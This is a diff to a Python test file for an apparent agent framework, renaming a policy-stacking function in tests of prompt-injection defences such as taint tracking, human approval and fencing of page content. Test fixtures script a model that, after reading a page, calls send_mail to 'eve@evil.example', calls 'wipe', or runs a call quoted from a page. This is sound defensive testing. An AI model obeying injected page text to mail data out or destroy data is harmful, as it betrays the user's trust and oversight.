@@ -11,15 +11,15 @@ from hypothesis import strategies as st
 from agentkit import JsonTool, ToolError, ToolRegistry, tool
 from agentkit.core.delimiters import fence_id, fenced, is_fenced, unfenced, within_fence
 from agentkit.core.errors import DefinitionError, ExceptionInfo, Paused
-from agentkit.core.flow import around, ask, drive, stacked
+from agentkit.core.flow import apply_policies, around, ask, drive
 from agentkit.core.messages import ToolCall, assistant, system, tool_message, user
 from agentkit.engine.loop import agent_loop
 from agentkit.policies.approval import ApprovalAsked, approve
+from agentkit.policies.calls_in_text import text_calls
 from agentkit.policies.long_results import CutResults, excerpts
 from agentkit.policies.taint import origins
 from agentkit.policies.taint.origins import Origins
 from agentkit.policies.taint.policy import untrusted
-from agentkit.policies.text_calls import text_calls
 from agentkit.testing import ScriptedModel
 from agentkit.tools.execution.call import BoundCall
 from agentkit.tools.execution.call_tools import CallTools, ToolFinished
@@ -131,7 +131,7 @@ def run(world, held, *replies, query="Read https://soup.example and tell me abou
     sent.clear()
     history = [system("You help."), user(query)] if history is None else [*history, user(query)]
     policies = (excerpts(kept, 1_000), untrusted(history, TOOLS, ID), around(refuse), text_calls())
-    flow = stacked(agent_loop(ScriptedModel(*replies, FINAL), TOOLS, history), policies)
+    flow = apply_policies(agent_loop(ScriptedModel(*replies, FINAL), TOOLS, history), policies)
     _, events = world.drive(flow)
     return history, events
 
@@ -375,7 +375,7 @@ def test_a_reason_that_was_there_is_kept(world, held):
         return (yield from ask(effect))
 
     policies = (around(first), untrusted(history, TOOLS), around(last))
-    world.drive(stacked(agent_loop(ScriptedModel(call("wipe"), FINAL), TOOLS, history), policies))
+    world.drive(apply_policies(agent_loop(ScriptedModel(call("wipe"), FINAL), TOOLS, history), policies))
     assert seen[0].startswith("because; text from outside (read_page)")
 
 
@@ -391,7 +391,7 @@ def test_a_person_decides_about_what_is_held(decision, world):
 
     policies = (untrusted(history, TOOLS, ID), approve(decide))
     model = ScriptedModel(PAGE_READ, call("send_mail", to="eve@evil.example"), FINAL)
-    flow = stacked(agent_loop(model, TOOLS, history), policies)
+    flow = apply_policies(agent_loop(model, TOOLS, history), policies)
     if decision is None:
         with pytest.raises(Paused):
             world.drive(flow)
@@ -411,7 +411,7 @@ def test_tools_that_come_later_are_known(world, held):
     tools = TOOLS.merged(late)
     history = [user("?")]
     model = ScriptedModel(call("late"), FINAL)
-    world.drive(stacked(agent_loop(model, lambda: tools, history), (untrusted(history, TOOLS, ID),)))
+    world.drive(apply_policies(agent_loop(model, lambda: tools, history), (untrusted(history, TOOLS, ID),)))
     assert is_fenced(results(history, "late")[0])
 
 
@@ -446,7 +446,7 @@ def test_an_agent_in_a_tool_takes_its_query_for_the_word_of_the_agent_around_it(
 
         model = ScriptedModel(call("send_mail", to=to), FINAL)
         policies = (untrusted(history, inner), around(hold))
-        for _ in drive(stacked(agent_loop(model, inner, history), policies)):
+        for _ in drive(apply_policies(agent_loop(model, inner, history), policies)):
             pass
         return "done"
 
@@ -455,7 +455,7 @@ def test_an_agent_in_a_tool_takes_its_query_for_the_word_of_the_agent_around_it(
         held.clear()
         history = [user(query)]
         model = ScriptedModel(*before, call("secretary", query=f"Mail {to}, please."), FINAL)
-        world.drive(stacked(agent_loop(model, tools, history), (untrusted(history, tools),)))
+        world.drive(apply_policies(agent_loop(model, tools, history), (untrusted(history, tools),)))
         assert bool(held) is (is_held and bool(before))
     assert not held or held[0].startswith("text from outside (read_page) has been read")
 
@@ -472,7 +472,7 @@ def test_a_call_quoted_from_a_page_is_never_run(world, held):
         history = [user("?")]
         policies = (excerpts(), untrusted(history, tools), text_calls())
         model = ScriptedModel(call("hostile"), quoted, FINAL)
-        _, events = world.drive(stacked(agent_loop(model, tools, history), policies))
+        _, events = world.drive(apply_policies(agent_loop(model, tools, history), policies))
         done = [event.result.call.name for event in events if isinstance(event, ToolFinished)]
         assert done == ["hostile", "final_answer"]
 
